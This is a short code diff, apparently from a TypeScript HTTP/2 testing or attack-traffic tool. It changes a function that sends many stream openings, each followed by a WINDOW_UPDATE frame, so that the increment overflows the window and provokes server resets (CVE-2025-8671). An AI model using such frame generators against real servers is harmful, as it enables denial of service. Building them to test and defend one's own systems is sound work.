@@ -187,11 +187,11 @@ export function resets(path: string, count: number): Iterable<Buffer> {
   );
 }
 
-/** Calls that make the server reset them, by a window update of zero (CVE-2025-8671). */
+/** Calls that make the server reset them, by a window that overflows (CVE-2025-8671). */
 export function provokedResets(path: string, count: number): Iterable<Buffer> {
   return many(
     count,
-    (i) => Buffer.concat([openCall(path, 2 * i + 1), frame(FRAME.windowUpdate, 0, 2 * i + 1, uint32(0))]),
+    (i) => Buffer.concat([openCall(path, 2 * i + 1), frame(FRAME.windowUpdate, 0, 2 * i + 1, uint32(0x7fffffff))]),
   );
 }
 
